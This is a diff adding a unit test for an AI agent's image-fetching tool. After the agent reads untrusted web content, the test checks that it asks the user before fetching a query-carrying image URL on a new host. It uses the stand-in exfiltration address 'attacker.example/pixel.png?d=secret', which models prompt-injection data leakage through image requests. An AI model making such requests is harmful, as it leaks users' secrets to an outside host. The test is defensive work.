@@ -140,4 +140,55 @@ describe('fetch_image tool', () => {
     expect(tool.validate?.({})).toBe('"url" must be a non-empty string');
     expect(tool.validate?.({ url: 'x', filename: 1 })).toBe('"filename" must be a string');
   });
+
+  it('in a tainted turn asks before a query-carrying image address on a new host; a denial or nobody to ask refuses before any request', async () => {
+    const png = buildPng(2, 2);
+    const { fetcher, requests } = fixedFetcher(png, 'image/png');
+    const { downloads, staged } = recordingStager();
+    const tool = createFetchImageTool({ fetcher, downloads, scratchConversationId: 's' });
+    const tainted: ToolContext = {
+      ...context,
+      taint: {
+        tainted: true,
+        reasons: [{ tool: 'web_fetch', detail: 'https://read.example/page' }],
+      },
+    };
+    const exfiltrating = 'https://attacker.example/pixel.png?d=secret';
+    const refused = await tool.execute({ url: exfiltrating }, tainted);
+    expect(refused).toEqual({
+      content: `Could not fetch ${exfiltrating}: not fetched: this page was found after reading untrusted content and would send data in its address, and nobody could be asked (non-interactive run: use --approve all, or fetch the address without its query)`,
+      isError: true,
+      untrustedSources: [],
+    });
+    const asked: string[] = [];
+    const denied = await tool.execute(
+      { url: exfiltrating },
+      {
+        ...tainted,
+        approve: (request) => {
+          asked.push(`${request.kind} ${request.toolName} ${String(request.arguments.url)}`);
+          return Promise.resolve('deny');
+        },
+      },
+    );
+    expect(denied.content).toMatch(/not fetched: the user denied it/);
+    expect(asked).toEqual([`web-fetch fetch_image ${exfiltrating}`]);
+    expect(requests).toEqual([]);
+    expect(staged).toEqual([]);
+
+    // A host the turn already read, and an address without a query, go ahead unasked.
+    await tool.execute({ url: 'https://read.example/logo.png?size=2' }, tainted);
+    await tool.execute({ url: 'https://other.example/logo.png' }, tainted);
+    expect(requests.map((request) => request.url)).toEqual([
+      'https://read.example/logo.png?size=2',
+      'https://other.example/logo.png',
+    ]);
+    // A host an earlier fetch_image requested counts as seen too.
+    const afterImage: ToolContext = {
+      ...context,
+      taint: { tainted: true, reasons: [{ tool: 'fetch_image', detail: exfiltrating }] },
+    };
+    await tool.execute({ url: 'https://attacker.example/again.png?d=2' }, afterImage);
+    expect(requests.at(-1)?.url).toBe('https://attacker.example/again.png?d=2');
+  });
 });
